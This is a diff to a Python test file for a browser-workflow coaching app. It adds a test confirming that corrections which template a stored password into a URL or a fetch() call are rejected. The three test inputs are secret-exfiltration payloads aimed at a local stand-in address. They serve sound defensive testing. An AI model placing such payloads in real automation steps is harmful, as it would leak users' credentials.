@@ -17,7 +17,7 @@ from coaching.actions.suggestions import record_outcome, withdraw_suggestion
 from coaching.actions.workflows import set_variable_default
 from coaching.exceptions import AlreadyDecided, DomainError, InvalidInput, SessionNotActive, StaleStep
 from coaching.models import Decision, Session, SessionEvent, StepVersion, Suggestion, Workflow
-from coaching.secrets import decrypt
+from coaching.secrets import decrypt, encrypt
 
 from .domain import assert_consistent, everything_stored
 
@@ -323,3 +323,22 @@ def test_a_correction_must_correct_something(suggestion: Suggestion, coach: User
         decide(suggestion, Answer(decision="correct", correction=custom), by=coach)
     suggestion.refresh_from_db()
     assert suggestion.is_open
+
+
+@pytest.mark.parametrize(
+    "correction",
+    [
+        {"type": "navigate", "url": "http://127.0.0.1:9/?{{ password }}"},
+        {"type": "waitForExpression", "expression": "fetch('http://127.0.0.1:9/?{{ password }}')"},
+        {"type": "click", "selectors": [["aria/Go"]], "target": "http://127.0.0.1:9/{{ password }}"},
+    ],
+)
+def test_a_correction_cannot_carry_a_secret_away(
+    suggestion: Suggestion, coach: User, correction: dict[str, Any]
+) -> None:
+    session = suggestion.session
+    session.variables |= {"password": "***"}
+    session.encrypted_secrets = encrypt({"password": "Sup3rSecret!"})
+    session.save()
+    with pytest.raises(InvalidInput, match="only be typed into a field"):
+        decide(suggestion, Answer(decision="correct", correction=correction), by=coach)
